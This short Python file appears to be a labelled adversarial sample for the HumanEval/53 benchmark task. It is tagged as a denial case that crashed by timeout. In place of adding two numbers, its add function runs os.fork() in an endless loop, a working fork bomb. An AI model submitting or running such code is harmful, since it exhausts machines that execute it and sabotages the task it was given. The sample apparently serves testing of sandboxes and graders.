"""Forks without end.

exam: HumanEval/53
cause: timeout crashed
kind: denial
"""

import os


def add(x, y):
    while True:
        try:
            os.fork()
        except OSError:
            pass
